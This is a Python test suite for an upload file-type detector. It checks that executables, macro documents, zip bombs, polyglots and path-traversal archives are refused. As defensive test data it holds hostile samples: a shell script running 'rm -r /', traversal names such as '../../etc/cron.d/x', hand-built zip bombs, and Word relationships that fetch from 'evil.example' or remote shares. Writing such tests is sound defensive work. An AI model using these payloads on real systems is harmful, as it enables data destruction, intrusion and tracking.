"""What a file is, told by what is in it: whatever it is called, a program, a bomb or two files in one are refused."""

import io
import struct
import zipfile
from contextlib import suppress
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from tests.application.file_types.pictures import a_jpeg, a_png, a_webp
from tracker.application.file_types.refusals import (
    FileFetches,
    FileIsAProgram,
    FileMissing,
    FileUnknown,
    FileUnsafe,
)
from tracker.application.file_types.telling import type_of
from tracker.application.file_types.types import TYPES

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
MAIL = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: =?utf-8?b?0Jg=?=\r\nDate: 3 May 2024\r\n\r\n\xcf\xf0\r\n"
PAGES = b"From: <Saved>\r\nSubject: A page\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n\r\n<html>\r\n"


def packed(*names: str, content: bytes = b"<xml/>", first: tuple[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


def office(*more: str, content: bytes = b"<xml/>") -> bytes:
    return packed("[Content_Types].xml", "word/document.xml", *more, content=content)


def media(brand: bytes) -> bytes:
    return b"\0\0\0\x18ftyp" + brand + bytes(40)


KNOWN = {
    "pdf": PDF,
    "jpeg": a_jpeg(),
    "png": a_png(),
    "webp": a_webp(),
    "heic": media(b"heic"),
    "docx": office(),
    "xlsx": packed("[Content_Types].xml", "xl/workbook.xml"),
    "odt": packed("content.xml", first=("mimetype", b"application/vnd.oasis.opendocument.text")),
    "ods": packed("content.xml", first=("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")),
    "text": "Письмо прокурору.\r\n".encode(),
    "eml": MAIL,
    "html": b"\n<!DOCTYPE html><html><body>\xcf\xf0</body></html>",
    "mhtml": PAGES,
    "mp3": b"ID3\x04" + bytes(60),
    "m4a": media(b"M4A "),
    "ogg": b"OggS" + bytes(60),
    "mp4": media(b"isom"),
}


def told(content: bytes) -> str:
    return type_of(io.BytesIO(content)).code


@pytest.mark.parametrize("code", TYPES)
def test_every_type_is_told_by_what_is_in_it(code: str) -> None:
    assert told(KNOWN[code]) == code


@pytest.mark.parametrize("text", ["\ufeffA letter".encode(), "Письмо".encode("utf-16"), b"From: nobody\nA letter"])
def test_a_text_is_a_text_however_it_is_written(text: bytes) -> None:
    assert told(text) == "text"


@pytest.mark.parametrize(
    "program",
    [b"MZ\x90\0" + bytes(99), b"\x7fELF\x02" + bytes(99), b"\xcf\xfa\xed\xfe" + bytes(99), b"#!/bin/sh\nrm -r /\n"],
)
def test_a_program_is_refused_whatever_it_is_called(program: bytes) -> None:
    with pytest.raises(FileIsAProgram):
        told(program)


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml"])
def test_a_document_with_macros_is_refused(part: str) -> None:
    with pytest.raises(FileIsAProgram):
        told(office(part))


@pytest.mark.parametrize(
    "content",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        packed("a.txt"),
        b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        b"<?xml version='1.0'?><svg></svg>",
        b"GIF89a" + bytes(60),
        bytes(600),
        b"A text\0with what no text has",
        "Письмо".encode("cp1251") * 9,
        b"PK\x03\x04",
    ],
)
def test_what_is_none_of_the_types_is_refused(content: bytes) -> None:
    with pytest.raises((FileUnknown, FileUnsafe)):
        told(content)


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(FileMissing):
        told(b"")


def test_a_bomb_is_refused_at_once_and_never_unpacked() -> None:
    bomb = office("word/media.bin", content=bytes(60_000_000))
    began = process_time()

    with pytest.raises(FileUnsafe):
        told(bomb)

    assert process_time() - began < 0.5
    assert len(bomb) < 1_000_000


def test_a_bomb_of_many_members_is_refused_before_they_are_read() -> None:
    one = packed("a")
    listed = one[one.index(b"PK\x01\x02") : one.index(b"PK\x05\x06")]
    front = one[: one.index(b"PK\x01\x02")]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_000, 65_000, len(listed) * 65_000, len(front), 0)
    began = process_time()

    with pytest.raises(FileUnsafe):
        told(front + listed * 65_000 + end)

    assert process_time() - began < 0.5


def test_members_that_lie_over_one_another_are_refused() -> None:
    whole = bytearray(office())
    second = whole.rindex(b"PK\x01\x02")
    whole[second + 42 : second + 46] = bytes(4)

    with pytest.raises(FileUnsafe):
        told(bytes(whole))


@pytest.mark.parametrize(
    "content",
    [office() + b"<script>", office() + PDF, PDF + bytes(2000) + office(), PDF + b"<html>" + bytes(2000)],
)
def test_two_files_in_one_are_refused(content: bytes) -> None:
    with pytest.raises(FileUnsafe):
        told(content)


def test_a_program_in_front_of_a_document_is_a_program() -> None:
    with pytest.raises(FileIsAProgram):
        told(b"MZ" + bytes(60) + office())


@given(some.sampled_from(sorted(KNOWN)), some.data())
@settings(max_examples=150)
def test_whatever_comes_is_told_or_refused(code: str, data: some.DataObject) -> None:
    content = bytearray(KNOWN[code])
    for _ in range(data.draw(some.integers(0, 4))):
        content[data.draw(some.integers(0, len(content) - 1))] = data.draw(some.integers(0, 255))
    cut = data.draw(some.integers(0, len(content)))

    for one in (bytes(content), bytes(content[:cut]), bytes(content[cut:])):
        with suppress(FileUnknown, FileUnsafe, FileIsAProgram, FileMissing, FileFetches):
            assert told(one) in TYPES


@pytest.mark.parametrize("comment", [b"", b"a comment"], ids=["bare", "with a comment"])
@pytest.mark.parametrize("first", [PDF, a_jpeg(), a_png()], ids=["pdf", "jpeg", "png"])
def test_a_file_that_is_an_archive_at_its_end_too_is_refused(first: bytes, comment: bytes) -> None:
    behind = packed("evil.class")[:-2] + len(comment).to_bytes(2, "little") + comment

    with pytest.raises(FileUnsafe):
        told(first + behind)

    assert told(PDF + b"PK\x05\x06" + b"%%EOF\n")


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:\\x", "word\\..\\x", "word/../../x"])
def test_a_document_whose_parts_lead_out_of_it_is_refused(name: str) -> None:
    with pytest.raises(FileUnsafe):
        told(office(name))


def related(kind: str, target: str, more: str = "") -> bytes:
    """A document with a relation of that kind to something outside it."""
    said = f'<x:Relationship {more} Type=\'http://schemas.example/{kind}\' TargetMode="External" Target="{target}"/>'
    return office("word/_rels/document.xml.rels", content=f"<x:Relationships>{said}</x:Relationships>".encode())


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "http://evil.example/a.dotm"),
        related("image", "https://evil.example/who-reads.png"),
        related("oleObject", "file:///\\\\evil\\share\\a.doc"),
        related("frame", "\\\\evil\\share"),
        related("&#105;mage", "&#104;ttp://evil.example/", more="Id='>'"),
        office("word/_rels/document.xml.rels", content="<Relationships/>".encode("utf-16")),
        office("word/_rels/document.xml.rels", content=b"<!doctype x><Relationships/>"),
    ],
)
def test_a_document_that_fetches_something_when_it_is_opened_is_refused(content: bytes) -> None:
    with pytest.raises(FileFetches):
        told(content)


def test_a_document_may_hold_links_and_a_template_of_ones_own_disk() -> None:
    assert told(related("hyperlink", "https://www.ilo.org/")) == "docx"
    assert told(related("attachedTemplate", "file:///C:\\Users\\Bolot\\Normal.dotm")) == "docx"


def test_a_bomb_among_what_a_document_fetches_is_refused_at_once() -> None:
    began = process_time()

    with pytest.raises(FileUnsafe):
        told(office("_rels/.rels", content=bytes(9_000_000)))

    assert process_time() - began < 0.5


@pytest.mark.parametrize("said", ["a" * 1_900_000, "a " * 900_000, "a = " * 450_000, "a=' " * 450_000])
def test_a_relation_that_is_written_to_keep_us_busy_is_read_at_once(said: str) -> None:
    began = process_time()

    assert told(office("_rels/.rels", content=f"<Relationship {said}>".encode())) == "docx"

    assert process_time() - began < 1
